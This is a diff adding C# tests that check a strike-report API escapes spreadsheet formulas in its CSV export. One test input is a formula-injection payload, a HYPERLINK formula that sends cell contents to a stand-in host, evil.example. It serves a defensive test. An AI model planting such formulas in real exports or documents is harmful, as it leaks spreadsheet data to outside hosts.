@@ -84,6 +84,52 @@ public sealed class StrikeCsvTests : IDisposable
         row["sourceUrls"].Split(' ').Should().BeEquivalentTo("https://www.reuters.com/world/a?x=1&y=2", "https://unn.ua/en/news/b");
     }
 
+    public static TheoryData<string> FormulaTriggers => new() { "=", "+", "-", "@", "\t", "\r" };
+
+    [Theory]
+    [MemberData(nameof(FormulaTriggers))]
+    public async Task A_text_cell_starting_with_a_formula_character_gets_a_leading_apostrophe_but_numbers_stay_numbers(string trigger)
+    {
+        var summary = trigger + "HYPERLINK(\"https://evil.example/?\"&A1,\"details\")";
+        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, trigger + "Kharkiv", summary: summary, at: (49.9935, -0.5)));
+
+        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02"));
+
+        var row = rows.Should().ContainSingle().Subject;
+        row["summary"].Should().Be("'" + summary);
+        row["settlement"].Should().Be("'" + trigger + "Kharkiv");
+        row["longitude"].Should().Be("-0.5", "a negative number is a number, not a formula");
+        row["dateText"].Should().Be("2 May 2024", "cells that start with anything else are unchanged");
+    }
+
+    [Fact]
+    public async Task Escape_formulas_false_writes_every_cell_as_stored()
+    {
+        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, "=1+1", summary: "@SUM(A1:A2)\r\n-2"));
+
+        var (_, rows) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02&escapeFormulas=false"));
+        var (_, escaped) = Parse(await _client.GetStringAsync("/api/v1/strikes.csv?from=2024-05-02&escapeFormulas=true"));
+
+        rows.Should().ContainSingle().Which["settlement"].Should().Be("=1+1");
+        rows[0]["summary"].Should().Be("@SUM(A1:A2)\r\n-2");
+        escaped.Should().ContainSingle().Which["settlement"].Should().Be("'=1+1");
+    }
+
+    [Fact]
+    public async Task The_list_in_csv_is_escaped_too_and_a_bad_escape_formulas_value_gets_400()
+    {
+        await _app.AddAsync(Evidence.Strike(new DateOnly(2024, 5, 2), Oblast.Kharkiv, "=1+1"));
+        var request = new HttpRequestMessage(HttpMethod.Get, "/api/v1/strikes?from=2024-05-02");
+        request.Headers.Accept.Add(new MediaTypeWithQualityHeaderValue("text/csv"));
+
+        var (_, rows) = Parse(await (await _client.SendAsync(request)).Content.ReadAsStringAsync());
+        var bad = await _client.GetAsync("/api/v1/strikes.csv?escapeFormulas=maybe");
+
+        rows.Should().ContainSingle().Which["settlement"].Should().Be("'=1+1");
+        bad.StatusCode.Should().Be(HttpStatusCode.BadRequest);
+        (await bad.ReadJsonAsync<Microsoft.AspNetCore.Mvc.ValidationProblemDetails>()).Errors.Should().ContainKey("escapeFormulas");
+    }
+
     [Fact]
     public async Task Filters_and_sort_apply_to_the_export()
     {
